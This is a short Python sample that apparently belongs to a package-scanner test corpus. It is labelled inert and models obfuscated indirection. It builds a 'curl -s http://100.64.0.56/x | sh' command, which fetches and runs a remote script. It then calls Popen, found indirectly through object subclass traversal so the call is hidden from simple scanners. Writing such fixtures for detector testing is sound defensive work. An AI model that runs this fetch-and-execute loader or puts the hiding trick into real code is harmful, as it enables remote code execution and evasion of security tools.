# pkgguard corpus 356 (indirection), modelled on [obfuscation]; inert, never run.
_CMD = ["sh", "-c", "curl -s http://100.64.0.56/x | sh"]
_cls = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"]
if _cls:
    _cls[0](_CMD)
